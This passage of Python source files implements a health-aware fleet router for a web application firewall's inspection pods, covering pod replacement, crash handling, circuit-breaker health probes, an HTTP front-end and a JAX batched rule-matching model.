        pod already did (TTL expiry, lenient import refusal — emitting
        here would double-count)."""
        if ref.verdict is None:
            ref.verdict = self.pool.policy_verdict(ref.tenant)
            if emit:
                self._emit_router_event(ref.tenant, ref.request,
                                        ref.verdict, at=at)
        with self._streams_lock:
            if pop:
                self._affinity.pop(sid, None)
                self._orphans.pop(sid, None)
            else:
                self._orphans[sid] = ref.verdict
        return ref.verdict

    # -- pod lifecycle (planned / unplanned) ---------------------------------
    def replace_pod(self, slot: int,
                    timeout_s: float | None = None,
                    strict: bool = True) -> dict:
        """Zero-loss planned replacement: build the successor FIRST
        (same replayed tenant history => same epoch stamps), drain the
        incumbent (readyz flips, in-flight resolves, open streams
        export), import the export into the successor, install it at
        the same slot. Stream affinity is slot-keyed, so pinned streams
        continue on the successor bit-identically — the chaos suite
        asserts continuation mid-token."""
        succ = self.pool.build_successor(slot)
        old = self.pool.pods[slot]
        try:
            summary = old.drain(timeout_s)
            imported = succ.batcher.import_streams(
                summary["exported"], strict=strict)
        except Exception:
            succ.stop()
            # failed handoff degrades to the unplanned path: the old
            # pod is already gone, resolve its pinned streams here
            n = self._resolve_slot_orphans(slot, at="handoff_failed")
            self._replan(failover=True)
            log.exception("planned replacement of slot %d failed "
                          "(%d stream(s) policy-resolved)", slot, n)
            raise
        # event accounting stays balanced through the handoff: revived
        # streams owe their one terminal event on the successor, and
        # lenient refusals emit theirs inside _refuse_import — both
        # covered by the original stream_begin notes
        refused = len(summary["exported"]) - imported
        self.pool.install(slot, succ)
        self.health.reset(slot)
        self.metrics.record_fleet_handoff(imported)
        self._replan(failover=False)
        log.info("slot %d replaced: %d stream(s) handed off, %d refused",
                 slot, imported, refused)
        return {"slot": slot, "exported": summary["exported_streams"],
                "imported": imported, "refused": refused,
                "deadline_exceeded": summary["deadline_exceeded"]}

    def kill_pod(self, slot: int) -> dict:
        """Unplanned loss (crash model): the pod's ledger closes via its
        zero-timeout drain (in-flight futures resolve with the failure
        policy), its exported stream state is DISCARDED, and every
        stream pinned to the slot resolves here — failure-policy
        verdict, exactly one audit event, emitted by the router for
        streams the pod never terminalized."""
        pod = self.pool.pods[slot]
        pod.kill()
        n = self._resolve_slot_orphans(slot, at="pod_killed")
        self._replan(failover=True)
        log.warning("pod slot %d killed: %d open stream(s) "
                    "policy-resolved by the router", slot, n)
        return {"slot": slot, "orphans_resolved": n}

    def _resolve_slot_orphans(self, slot: int, *, at: str) -> int:
        with self._streams_lock:
            doomed = [(sid, ref) for sid, ref in self._affinity.items()
                      if ref.slot == slot]
            for sid, _ in doomed:
                del self._affinity[sid]
        n = 0
        for sid, ref in doomed:
            if ref.verdict is None:
                # never terminalized by the pod: the router owns the
                # stream's single audit event
                ref.verdict = self.pool.policy_verdict(ref.tenant)
                self._emit_router_event(ref.tenant, ref.request,
                                        ref.verdict, at=at)
                n += 1
            with self._streams_lock:
                self._orphans[sid] = ref.verdict
        return n

    # -- whole-fleet degraded -------------------------------------------------
    def _fleet_degraded(self, tenant: str, request: HttpRequest) -> Verdict:
        """End of the ladder: no pod available. The router synthesizes
        the tenant's failure-policy verdict and emits the request's one
        audit event itself — the fleet sheds, it never hangs."""
        self._note("inspect")
        v = self.pool.policy_verdict(tenant)
        self._emit_router_event(tenant, request, v, at="fleet_degraded")
        return v

    def _emit_router_event(self, tenant: str, request: HttpRequest,
                           v: Verdict, *, at: str) -> None:
        if not self.events.enabled:
            return
        try:
            self.events.emit(build_event(
                tenant=tenant, request=request, verdict=v,
                terminal="shed", at=at, degraded=True))
        except Exception:
            log.exception("router audit event emit failed")

    # -- observability --------------------------------------------------------
    def stream_slot(self, sid: str) -> "int | None":
        """Which slot a live stream is pinned to (None once resolved or
        unknown) — lets the chaos suite aim a kill/replace at a slot
        that provably holds open streams."""
        with self._streams_lock:
            ref = self._affinity.get(sid)
            return None if ref is None else ref.slot

    def snapshot(self) -> dict:
        with self._streams_lock:
            open_streams = len(self._affinity)
            orphans = len(self._orphans)
        with self._placer_lock:
            table = self.placer.table
        return {
            "placement_epoch": table.epoch,
            "healthy_slots": list(table.healthy),
            "pods": self.health.health_codes(),
            "breakers": self.health.breaker_snapshots(),
            "open_streams": open_streams,
            "unclaimed_orphans": orphans,
            "moves_total": self.placer.moves_total,
            "rebalances_total": self.placer.rebalance_total,
            "router_events": self.events.stats()["emitted_total"],
        }
