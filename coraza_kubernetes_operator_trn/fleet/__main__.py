"""Fleet entry: ``python -m coraza_kubernetes_operator_trn.fleet``.

Runs K in-process engine pods behind one health-aware router and fronts
them with a small HTTP surface (the verdict endpoints mirror
extproc/server.py, so a gateway filter cannot tell a fleet from a single
pod):

    POST /inspect/{ns}/{name}                      -> verdict JSON
    POST /inspect-stream/{ns}/{name}/{begin|chunk|end}
    POST /replace/{slot}       planned zero-loss pod replacement
    GET  /healthz              router view: per-pod health, epoch
    GET  /readyz               200 iff >= 1 pod is available
    GET  /metrics              router-level waf_fleet_* + request families

SIGTERM drains every pod (graceful, zero-loss); a second SIGTERM during
the window hurries every in-progress drain past its quiesce wait (the
same escape hatch extproc/__main__.py wires for a single pod).
"""

from __future__ import annotations

import argparse
import json
import logging
import signal
import threading
from http.server import BaseHTTPRequestHandler

from ..config import env as envcfg
from ..extproc.__main__ import build_engine
from ..extproc.server import (PayloadTooLarge, request_from_json,
                              response_from_json)
from ..runtime.resilience import FaultInjector
from ..utils.http import make_threading_server
from .health import HealthTracker
from .pool import PodPool
from .router import FleetRouter

log = logging.getLogger("fleet")


class _FleetHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "coraza-trn-fleet"
    timeout = 30

    router: FleetRouter

    def log_message(self, fmt, *args):
        log.debug("%s %s", self.address_string(), fmt % args)

    def _json(self, code: int, doc: dict) -> None:
        body = json.dumps(doc).encode()  # lint-allow: RED001 -- response envelope, not body bytes
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _read_json(self) -> dict:
        length = int(self.headers.get("Content-Length", 0))
        return json.loads(self.rfile.read(length) or b"{}")

    @staticmethod
    def _verdict_payload(v) -> dict:
        return {"allowed": v.allowed, "status": v.status,
                "rule_id": v.rule_id, "action": v.action,
                "redirect_url": v.redirect_url,
                "matched_rule_ids": v.matched_rule_ids}

    def do_GET(self) -> None:  # noqa: N802
        r = self.router
        if self.path == "/healthz":
            self._json(200, {"status": "ok", **r.snapshot()})
        elif self.path == "/readyz":
            ok = bool(r.health.available())
            self._json(200 if ok else 503,
                       {"status": "ok" if ok else "not ready",
                        "pods": r.health.health_codes()})
        elif self.path == "/metrics":
            text = r.metrics.prometheus().encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/plain; version=0.0.4")
            self.send_header("Content-Length", str(len(text)))
            self.end_headers()
            self.wfile.write(text)
        else:
            self._json(404, {"error": "not found"})

    def do_POST(self) -> None:  # noqa: N802
        parts = [p for p in self.path.split("/") if p]
        try:
            if len(parts) == 3 and parts[0] == "inspect":
                self._inspect(f"{parts[1]}/{parts[2]}")
            elif (len(parts) == 4 and parts[0] == "inspect-stream"
                  and parts[3] in ("begin", "chunk", "end")):
                self._stream(f"{parts[1]}/{parts[2]}", parts[3])
            elif len(parts) == 2 and parts[0] == "replace":
                self._replace(parts[1])
            else:
                self._json(404, {"error": "not found"})
        except PayloadTooLarge as exc:
            self._json(413, {"allowed": False, "status": 413,
                             "rule_id": 0, "action": "deny",
                             "redirect_url": "", "matched_rule_ids": [],
                             "error": str(exc)})
        except KeyError as exc:
            self._json(404, {"error": f"unknown stream: {exc}"})
        except (ValueError, TypeError) as exc:
            self._json(400, {"error": f"bad request: {exc}"})

    def _inspect(self, tenant: str) -> None:
        doc = self._read_json()
        req = request_from_json(doc.get("request", doc))
        resp = response_from_json(doc.get("response"))
        v = self.router.inspect(tenant, req, resp, timeout=600.0)
        self._json(200, self._verdict_payload(v))

    def _stream(self, tenant: str, action: str) -> None:
        doc = self._read_json()
        if action == "begin":
            req = request_from_json(doc.get("request", doc))
            sid, v = self.router.stream_begin(tenant, req)
            if sid is None:
                self._json(200, self._verdict_payload(v))
            else:
                self._json(200, {"stream_id": sid, "resolved": False})
        elif action == "chunk":
            from ..extproc.server import decode_body
            v = self.router.stream_chunk(doc["stream_id"],
                                         decode_body(doc))
            if v is None:
                self._json(200, {"resolved": False})
            else:
                self._json(200, {"resolved": True,
                                 **self._verdict_payload(v)})
        else:
            resp = response_from_json(doc.get("response"))
            v = self.router.stream_end(doc["stream_id"], resp,
                                       timeout=600.0)
            self._json(200, self._verdict_payload(v))

    def _replace(self, raw_slot: str) -> None:
        slot = int(raw_slot)
        if not 0 <= slot < len(self.router.pool.pods):
            self._json(404, {"error": f"no slot {slot}"})
            return
        out = self.router.replace_pod(slot, strict=True)
        self._json(200, out)


def main(argv: list[str] | None = None) -> None:
    p = argparse.ArgumentParser("coraza-trn-fleet")
    p.add_argument("--pods", type=int, default=0,
                   help="pod count (default: WAF_FLEET_PODS)")
    p.add_argument("--addr", default="0.0.0.0")
    p.add_argument("--port", type=int, default=18080)
    p.add_argument("--instance", action="append", default=[],
                   help="tenant key ns/name to serve (repeatable)")
    p.add_argument("--ruleset-file", action="append", default=[],
                   help="ns/name=path pairs: load SecLang text for a "
                        "tenant at startup (repeatable)")
    p.add_argument("--failure-policy", default="fail",
                   choices=["fail", "allow"])
    p.add_argument("--mode", default="auto",
                   choices=["auto", "gather", "matmul", "compose"])
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO)

    n_pods = args.pods or envcfg.get_int("WAF_FLEET_PODS")
    signal.pthread_sigmask(
        signal.SIG_BLOCK, {signal.SIGINT, signal.SIGTERM})
    pool = PodPool(
        n_pods, lambda: build_engine(mode=args.mode),
        failure_policy={k: args.failure_policy for k in args.instance},
        configured=set(args.instance))
    fault = FaultInjector.from_env()
    health = HealthTracker(pool, fault=fault)
    router = FleetRouter(pool, health=health, fault=fault)
    router.start()
    for pair in args.ruleset_file:
        key, _, path = pair.partition("=")
        with open(path, encoding="utf-8") as f:
            router.set_tenant(key, f.read(),
                              failure_policy=args.failure_policy)

    handler = type("BoundFleetHandler", (_FleetHandler,),
                   {"router": router})
    httpd = make_threading_server(args.addr, args.port, handler,
                                  backlog=256)
    serve = threading.Thread(target=httpd.serve_forever,
                             name="fleet-server", daemon=True)
    serve.start()
    print(f"fleet ready on :{httpd.server_address[1]} "
          f"({n_pods} pods)", flush=True)
    try:
        sig = signal.sigwait({signal.SIGINT, signal.SIGTERM})
    except BaseException:
        sig = signal.SIGINT
        raise
    finally:
        if sig == signal.SIGTERM:
            # graceful fleet shutdown: every pod drains concurrently; a
            # second signal hurries ALL in-progress drains (the fleet
            # flavor of the extproc escape hatch)
            threads = []
            for pod in pool.live_pods():
                t = threading.Thread(target=pod.drain,
                                     name=f"drain-{pod.pod_id}",
                                     daemon=True)
                t.start()
                threads.append(t)
            while any(t.is_alive() for t in threads):
                extra = signal.sigtimedwait(
                    {signal.SIGINT, signal.SIGTERM}, 0.1)
                if extra is not None:
                    log.warning("second signal: hurrying %d drain(s)",
                                len(threads))
                    for pod in pool.pods:
                        pod.batcher.hurry_drain()
                    break
            for t in threads:
                t.join(timeout=30.0)
        httpd.shutdown()
        httpd.server_close()
        router.stop()


if __name__ == "__main__":
    main()
