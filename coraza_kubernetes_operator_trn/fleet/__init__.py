"""Fleet front-end: a health-aware tenant router over N engine pods.

The reference operator scales the WAF horizontally by running one WASM
interpreter per Envoy sidecar — placement is a non-problem because every
proxy carries its own engine. The trn data plane concentrates inspection
onto accelerator-backed extproc pods, so a fleet of K pods needs what a
single pod never did: tenant->pod placement, health-aware failover, and
zero-loss pod replacement. This package is that front-end:

- ``pool.PodPool``: K in-process pods (engine + MicroBatcher [+ server]),
  all built from the same replayed ``set_tenant`` history so their
  reload epochs line up and exported stream state imports strictly.
- ``health.HealthTracker``: per-pod CircuitBreakers fed by periodic
  probes AND in-band dispatch outcomes; the healthy set it publishes is
  what placement hashes over.
- ``router.FleetRouter``: rendezvous placement at pod scope (the same
  ``parallel.placement`` machinery the sharded engine uses at chip
  scope), bounded retry with backoff+jitter, optional tail-latency
  hedging, stream affinity, and the planned/unplanned replacement
  paths. Degradation ladder: retry -> failover re-placement -> whole-
  fleet-degraded failure-policy verdicts. Never a hung future, never a
  dropped ledger entry.
"""

from .health import HealthTracker
from .pool import Pod, PodPool, PodUnavailable
from .router import FleetRouter

__all__ = ["FleetRouter", "HealthTracker", "Pod", "PodPool",
           "PodUnavailable"]
