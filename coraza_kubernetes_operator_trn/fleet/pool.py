"""Pod pool: the fleet's unit of replacement.

A ``Pod`` is one complete inspection stack — engine + MicroBatcher and
(optionally) an ``InspectionServer`` — plus the SERVING/DRAINING/DEAD
lifecycle the router keys placement and failover off. ``PodPool`` builds
K of them from one engine factory and REPLAYS the same ``set_tenant``
history into every new engine, so all pods share reload epochs: a
planned replacement can import the predecessor's exported stream state
with ``strict=True`` and the engine's staleness check passes by
construction (see runtime/multitenant.import_stream_state — it refuses
on any epoch/version mismatch, which is exactly what we want for
genuinely divergent pods).
"""

from __future__ import annotations

import logging
import threading
import time

from ..engine.reference import Verdict
from ..extproc.batcher import MicroBatcher
from ..extproc.metrics import Metrics

log = logging.getLogger("fleet-pool")

# -- pod lifecycle ----------------------------------------------------------
SERVING = "serving"
DRAINING = "draining"  # planned replacement: readyz down, export pending
DEAD = "dead"          # crashed or replaced: dispatch raises

# waf_fleet_pod_health gauge codes: 0/1/2 mirror HEALTH_CODE for a live
# pod's batcher health; 3 is the router's own "dead" marker
DEAD_CODE = 3


class PodUnavailable(RuntimeError):
    """Dispatch against a DEAD (or missing) pod — the fleet-scope
    connect failure. The router treats it exactly like a refused TCP
    connect: retry the tenant's next rendezvous candidate."""

    def __init__(self, pod_id: str) -> None:
        super().__init__(f"pod {pod_id} unavailable")
        self.pod_id = pod_id


class Pod:
    """One inspection stack with a lifecycle the router can reason
    about. All verdict traffic goes through ``batcher`` directly (the
    in-process fleet); ``server`` is optional and only started when the
    fleet fronts real HTTP probes."""

    def __init__(self, pod_id: str, slot: int, batcher: MicroBatcher,
                 server=None) -> None:
        self.pod_id = pod_id
        self.slot = slot
        self.batcher = batcher
        self.server = server
        self._state = SERVING
        self._lock = threading.Lock()

    @property
    def state(self) -> str:
        with self._lock:
            return self._state

    def _set_state(self, state: str) -> None:
        with self._lock:
            self._state = state

    # -- health view (what probes read) -----------------------------------
    def health(self) -> str:
        """'healthy'/'degraded'/'shedding' from the live batcher, or
        'dead' once killed/replaced."""
        if self.state == DEAD:
            return "dead"
        return self.batcher.health()

    def health_code(self) -> int:
        from ..runtime.resilience import HEALTH_CODE
        h = self.health()
        return DEAD_CODE if h == "dead" else HEALTH_CODE[h]

    def ready(self) -> bool:
        """The /readyz predicate: serving, rules loaded, not shedding."""
        return (self.state == SERVING
                and bool(self.batcher.engine.tenants)
                and self.batcher.health() != "shedding")

    # -- admission gate ----------------------------------------------------
    def check_dispatch(self) -> None:
        """Raise PodUnavailable unless this pod may take new work."""
        if self.state != SERVING:
            raise PodUnavailable(self.pod_id)

    # -- lifecycle ---------------------------------------------------------
    def drain(self, timeout_s: float | None = None) -> dict:
        """Planned replacement: flip to DRAINING (placement drops us),
        run the batcher's zero-loss drain, return its summary — the
        ``exported`` records are the successor's import payload. The pod
        ends DEAD with a closed ledger.

        A pod that is ALREADY dead (killed, or previously replaced)
        hands off nothing: its exports were discarded at crash time and
        the router owns those streams' resolutions — re-draining it is
        the respawn path, and resurrecting the cached export would
        double-resolve them."""
        if self.state == DEAD:
            summary = dict(self.batcher.drain(timeout_s=0.0))
            summary["exported"] = []
            summary["exported_streams"] = 0
            return summary
        self._set_state(DRAINING)
        summary = self.batcher.drain(timeout_s)
        self._set_state(DEAD)
        self._stop_server()
        return summary

    def kill(self) -> None:
        """Unplanned loss (crash model): the pod vanishes NOW. The
        zero-timeout drain closes this pod's ledger the way a real
        crash closes it — every in-flight future resolves with the
        failure-policy verdict — but the exported stream records are
        DISCARDED: a crashed pod hands nothing off. Its open streams
        become the router's orphans to resolve (router.kill_pod)."""
        self._set_state(DEAD)
        try:
            summary = self.batcher.drain(timeout_s=0.0)
            # discarded on purpose: crash semantics
            log.info("pod %s killed: %d exported stream record(s) "
                     "discarded (crash model)", self.pod_id,
                     summary["exported_streams"])
        except Exception:
            log.exception("pod %s kill drain failed", self.pod_id)
        self._stop_server()

    def stop(self) -> None:
        self._set_state(DEAD)
        self.batcher.stop()
        self._stop_server()

    def _stop_server(self) -> None:
        if self.server is not None:
            try:
                self.server.stop()
            except Exception:
                log.exception("pod %s server stop failed", self.pod_id)


class PodPool:
    """K pods from one engine factory, kept tenant-synchronized.

    ``engine_factory()`` must return a FRESH engine each call (the pods
    are independent failure domains). Every ``set_tenant`` through the
    pool is recorded and replayed into successors, mirroring the soak
    runner's ``_replay_engine`` trick — identical reload histories mean
    identical epoch stamps, so drain-handoff imports pass the strict
    staleness check.
    """

    def __init__(self, n_pods: int, engine_factory, *,
                 failure_policy: dict[str, str] | None = None,
                 configured: set[str] | None = None,
                 batcher_kw: dict | None = None,
                 server_factory=None,
                 clock=time.monotonic) -> None:
        if n_pods < 1:
            raise ValueError("need at least one pod")
        self.engine_factory = engine_factory
        self.failure_policy = dict(failure_policy or {})
        self.configured = set(configured or self.failure_policy)
        self.batcher_kw = dict(batcher_kw or {})
        self.server_factory = server_factory
        self._clock = clock
        self._set_log: list[tuple[str, str]] = []
        self._generation = 0  # total pods ever built (unique pod ids)
        self._lock = threading.Lock()
        self.pods: list[Pod] = [self._build(slot) for slot in range(n_pods)]

    # -- construction ------------------------------------------------------
    def _build(self, slot: int) -> Pod:
        with self._lock:
            gen = self._generation
            self._generation += 1
            history = list(self._set_log)
        engine = self.engine_factory()
        for tenant, text in history:
            engine.set_tenant(tenant, ruleset_text=text)
        batcher = MicroBatcher(
            engine,
            failure_policy=dict(self.failure_policy),
            configured=set(self.configured),
            metrics=Metrics(),
            clock=self._clock,
            **self.batcher_kw)
        batcher.start()
        pod_id = f"pod{slot}" if gen == slot else f"pod{slot}g{gen}"
        server = None
        if self.server_factory is not None:
            server = self.server_factory(batcher)
            server.start()
        return Pod(pod_id, slot, batcher, server=server)

    def build_successor(self, slot: int) -> Pod:
        """A fresh, started pod for ``slot`` with the full replayed
        tenant history — NOT yet installed (the router installs it after
        the predecessor's export imports cleanly)."""
        return self._build(slot)

    def install(self, slot: int, pod: Pod) -> Pod:
        """Swap ``slot``'s pod for ``pod``; returns the predecessor
        (already DEAD after its drain)."""
        with self._lock:
            old = self.pods[slot]
            self.pods[slot] = pod
        return old

    # -- tenant sync -------------------------------------------------------
    def set_tenant(self, tenant: str, ruleset_text: str,
                   failure_policy: str | None = None) -> None:
        """Install/replace a tenant on EVERY live pod and record the
        call for future successors. A pod whose reload fails keeps its
        old version serving (the engine's own atomic-swap contract)."""
        with self._lock:
            self._set_log.append((tenant, ruleset_text))
            if failure_policy is not None:
                self.failure_policy[tenant] = failure_policy
            self.configured.add(tenant)
            pods = list(self.pods)
        for pod in pods:
            if pod.state == DEAD:
                continue
            try:
                pod.batcher.engine.set_tenant(
                    tenant, ruleset_text=ruleset_text)
            except Exception:
                log.exception("pod %s set_tenant(%s) failed (old version "
                              "keeps serving)", pod.pod_id, tenant)
            pod.batcher.configured.add(tenant)
            if failure_policy is not None:
                pod.batcher.failure_policy[tenant] = failure_policy

    def policy_verdict(self, tenant: str) -> Verdict:
        """The tenant's failure-policy verdict for ROUTER-synthesized
        resolutions (orphaned streams, whole-fleet-degraded) — same
        shape the batcher's own ``_policy_verdict`` produces, so the
        retryable-503 classification sees one contract fleet-wide."""
        if self.failure_policy.get(tenant, "fail") == "allow":
            return Verdict(allowed=True)
        return Verdict(allowed=False, status=503, action="deny")

    # -- lifecycle ---------------------------------------------------------
    def live_pods(self) -> list[Pod]:
        with self._lock:
            return [p for p in self.pods if p.state != DEAD]

    def stop(self) -> None:
        with self._lock:
            pods = list(self.pods)
        for pod in pods:
            if pod.state != DEAD:
                pod.stop()
