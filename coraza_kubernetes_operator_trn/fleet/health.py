"""Per-pod health tracking: probes + in-band outcomes -> healthy set.

Two signal sources feed one per-pod ``CircuitBreaker`` (the same
primitive the batcher uses for device admission, reused at pod scope):

- **Probes**: a background loop hits each pod every
  ``WAF_FLEET_PROBE_INTERVAL_S`` — over HTTP (``/readyz``) when the pod
  fronts a real server, directly off ``Pod.health()`` otherwise. A
  probe that raises, times out, or finds the pod shedding/dead is a
  breaker failure; a ready pod is a success.
- **In-band**: the router reports every dispatch outcome
  (``report_success``/``report_failure``), so a pod that fails real
  traffic trips OPEN between probes — probes alone would leave a
  ``WAF_FLEET_PROBE_INTERVAL_S``-wide blind spot.

The published healthy set (``available()``) is what placement hashes
over: a slot is in it iff its pod is SERVING and its breaker is not
OPEN. HALF_OPEN slots stay in — the next dispatch IS the half-open
probe, and one failure re-opens with doubled backoff (breaker
legality is asserted by the chaos invariants).
"""

from __future__ import annotations

import logging
import threading
import time

from ..config import env as envcfg
from ..runtime.resilience import CircuitBreaker, FaultInjector
from .pool import DEAD, SERVING, PodPool

log = logging.getLogger("fleet-health")


class HealthTracker:
    def __init__(self, pool: PodPool, *,
                 probe_interval_s: float | None = None,
                 probe_timeout_s: float | None = None,
                 fault: FaultInjector | None = None,
                 breaker_factory=None,
                 clock=time.monotonic) -> None:
        self.pool = pool
        if probe_interval_s is None:
            probe_interval_s = envcfg.get_float("WAF_FLEET_PROBE_INTERVAL_S")
        if probe_timeout_s is None:
            probe_timeout_s = envcfg.get_float("WAF_FLEET_PROBE_TIMEOUT_S")
        self.probe_interval_s = max(0.05, probe_interval_s)
        self.probe_timeout_s = max(0.05, probe_timeout_s)
        self.fault = fault
        self._clock = clock
        self._breaker_factory = breaker_factory or (
            lambda: CircuitBreaker(failure_threshold=3,
                                   base_backoff_s=0.2,
                                   max_backoff_s=5.0,
                                   clock=clock))
        self.breakers: dict[int, CircuitBreaker] = {
            p.slot: self._breaker_factory() for p in pool.pods}
        self.probes_total = 0
        self.probe_failures_total = 0
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    # -- probe loop --------------------------------------------------------
    def start(self) -> None:
        if self._thread is not None:
            return
        self._stop.clear()
        self._thread = threading.Thread(
            target=self._run, name="fleet-health", daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        t = self._thread
        if t is not None:
            t.join(timeout=2.0)
        self._thread = None

    def _run(self) -> None:
        while not self._stop.wait(self.probe_interval_s):
            try:
                self.probe_all()
            except Exception:
                log.exception("probe sweep failed")

    def probe_all(self) -> None:
        for pod in list(self.pool.pods):
            self.probe(pod.slot)

    def probe(self, slot: int) -> bool:
        """One readiness probe against the slot's current pod. Returns
        True when the pod looked ready; feeds the slot's breaker either
        way."""
        pod = self.pool.pods[slot]
        with self._lock:
            self.probes_total += 1
        try:
            if self.fault is not None:
                # probe-timeout: the readyz round trip is lost — the
                # router's view of the pod degrades even though the pod
                # itself is fine (the classic partial-partition case)
                self.fault.check("probe-timeout")
            if pod.server is not None:
                ok = self._http_ready(pod)
            else:
                ok = pod.ready()
        except Exception:
            ok = False
        if ok:
            self.report_success(slot)
        else:
            with self._lock:
                self.probe_failures_total += 1
            self.report_failure(slot, "probe")
        return ok

    def _http_ready(self, pod) -> bool:
        import urllib.request
        url = f"http://127.0.0.1:{pod.server.port}/readyz"
        try:
            with urllib.request.urlopen(
                    url, timeout=self.probe_timeout_s) as r:
                return r.status == 200
        except Exception:
            return False

    # -- in-band outcomes --------------------------------------------------
    def report_success(self, slot: int) -> None:
        b = self.breakers.get(slot)
        if b is not None:
            b.record_success()

    def report_failure(self, slot: int, reason: str) -> None:
        b = self.breakers.get(slot)
        if b is not None:
            b.record_failure()
            if b.state == CircuitBreaker.OPEN:
                log.warning("pod slot %d breaker OPEN (last failure: %s)",
                            slot, reason)

    def reset(self, slot: int) -> None:
        """Fresh breaker for a freshly installed pod (replacement)."""
        self.breakers[slot] = self._breaker_factory()

    # -- published views ---------------------------------------------------
    def available(self) -> list[int]:
        """Slots placement may hash over: SERVING pod, breaker not
        OPEN. Sorted so the rendezvous candidate order is a pure
        function of (tenant, this set)."""
        out = []
        for pod in list(self.pool.pods):
            if pod.state != SERVING:
                continue
            b = self.breakers.get(pod.slot)
            if b is not None and b.state == CircuitBreaker.OPEN:
                continue
            out.append(pod.slot)
        return sorted(out)

    def health_codes(self) -> dict[str, int]:
        """{pod_id: 0 healthy / 1 degraded / 2 shedding / 3 dead} for
        the waf_fleet_pod_health gauge. A live pod whose breaker is
        OPEN reports at least degraded: the router is not sending it
        traffic even if the pod itself claims healthy."""
        out: dict[str, int] = {}
        for pod in list(self.pool.pods):
            code = pod.health_code()
            b = self.breakers.get(pod.slot)
            if (pod.state != DEAD and b is not None
                    and b.state == CircuitBreaker.OPEN):
                code = max(code, 1)
            out[pod.pod_id] = code
        return out

    def breaker_snapshots(self) -> dict[int, dict]:
        return {slot: b.snapshot() for slot, b in self.breakers.items()}
