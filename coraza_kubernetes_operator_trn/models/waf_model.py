"""WafModel — the jittable batched inspection forward pass.

This is the framework's "flagship model": for each transform-chain group of
matchers, one jitted program applies the chain's vectorized transforms and
runs the batched automaton scan. The program is a pure function of

    (tables, classes, starts, lane_matcher, symbols) -> final states

with the transform chain baked into the program structure (chains are
static per group), so neuronx-cc compiles one NEFF per (group, L-bucket,
N-bucket) and reuses it across every batch and every hot-reloaded ruleset
with the same shapes.

Replaces the per-request WASM interpreter of the reference's data plane
(reference: SURVEY.md §3.5) with one device dispatch per group per batch.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import partial

import jax
import numpy as np

from ..compiler.compile import CompiledRuleSet, Matcher
from ..ops import automata_jax, transforms_jax
from ..ops.packing import Pack, PreparedTables, pack_streams, prepare_tables

# Static shape buckets: streams pad up to a bucket length, lanes to a
# multiple of LANE_PAD. Few buckets => few neuronx-cc compilations
# (compiles cache to /tmp/neuron-compile-cache, but each is minutes).
LENGTH_BUCKETS = (128, 256, 512, 2048, 8192)
LANE_PAD = 64


def _bucket_for(max_len: int) -> int:
    for b in LENGTH_BUCKETS:
        if max_len <= b:
            return b
    return LENGTH_BUCKETS[-1]


@dataclass
class ChainGroup:
    """Matchers sharing one transform chain -> one jitted program."""

    transforms: tuple[str, ...]
    matchers: list[Matcher]
    tables: PreparedTables
    # matcher.mid -> local index within this group
    local_index: dict[int, int]


class WafModel:
    """Compiled ruleset -> grouped, jit-ready device programs."""

    def __init__(self, compiled: CompiledRuleSet, mode: str = "gather"):
        self.compiled = compiled
        self.mode = mode
        self.groups: list[ChainGroup] = []
        by_chain: dict[tuple[str, ...], list[Matcher]] = {}
        for m in compiled.matchers:
            by_chain.setdefault(m.transforms, []).append(m)
        for transforms, matchers in sorted(by_chain.items()):
            self.groups.append(ChainGroup(
                transforms=transforms,
                matchers=matchers,
                tables=prepare_tables(matchers),
                local_index={m.mid: i for i, m in enumerate(matchers)},
            ))
        self._jitted: dict[tuple, "jax.stages.Wrapped"] = {}

    # ------------------------------------------------------------------
    def _forward(self, transforms: tuple[str, ...], tables, classes, starts,
                 lane_matcher, symbols):
        """The pure jittable forward for one group."""
        sym = transforms_jax.apply_chain(symbols, transforms)
        scan = (automata_jax.onehot_matmul_scan if self.mode == "matmul"
                else automata_jax.gather_scan)
        return scan(tables, classes, starts, lane_matcher, sym)

    def _get_jitted(self, gi: int):
        key = (gi, self.mode)
        fn = self._jitted.get(key)
        if fn is None:
            transforms = self.groups[gi].transforms
            fn = jax.jit(partial(self._forward, transforms))
            self._jitted[key] = fn
        return fn

    # ------------------------------------------------------------------
    def group_bits(self, gi: int, per_request_values: list[list[list[bytes]]],
                   local_sel: list[int] | None = None) -> np.ndarray:
        """per_request_values[r][i] -> bool [R, len(sel)] where
        sel = local_sel or all the group's local matcher indices (lanes are
        packed only for selected matchers; columns follow `sel` order)."""
        group = self.groups[gi]
        sel = (local_sel if local_sel is not None
               else list(range(len(group.matchers))))
        n_req = len(per_request_values)
        if n_req == 0 or not sel:
            return np.zeros((n_req, len(sel)), dtype=bool)
        max_needed = 2
        for req in per_request_values:
            for values in req:
                need = sum(len(v) + 2 for v in values)
                max_needed = max(max_needed, need)
        L = _bucket_for(max_needed)
        pack = pack_streams(per_request_values, L)
        sel_arr = np.asarray(sel, dtype=np.int32)
        lane_matcher_real = sel_arr[pack.lane_matcher]
        # pad lanes to a bucket multiple for compile reuse
        n = pack.n_lanes
        n_pad = -n % LANE_PAD
        symbols = np.pad(pack.symbols, ((0, n_pad), (0, 0)),
                         constant_values=258)
        lane_matcher = np.pad(lane_matcher_real, (0, n_pad))
        pt = group.tables
        fn = self._get_jitted(gi)
        final = np.asarray(fn(pt.tables, pt.classes, pt.starts,
                              lane_matcher, symbols))[:n]
        bits = np.asarray(automata_jax.match_bits(
            final, pt.accepts, lane_matcher_real))
        # truncated streams might have missed a match: treat as matched
        # (conservative = stays a candidate; host decides exactly)
        bits = bits | pack.truncated
        return bits.reshape(n_req, len(sel))

    def match_bits(self, per_request_values_by_mid:
                   list[dict[int, list[bytes]]],
                   only_mids: set[int] | None = None) -> np.ndarray:
        """values per request keyed by matcher.mid -> bool [R, n_matchers]
        in global mid order. With `only_mids`, lanes are dispatched for just
        those matchers (groups with no selected matcher are skipped); other
        columns stay False."""
        n_req = len(per_request_values_by_mid)
        out = np.zeros((n_req, self.compiled.n_matchers), dtype=bool)
        for gi, group in enumerate(self.groups):
            if only_mids is None:
                sel_matchers = group.matchers
                local_sel = None
            else:
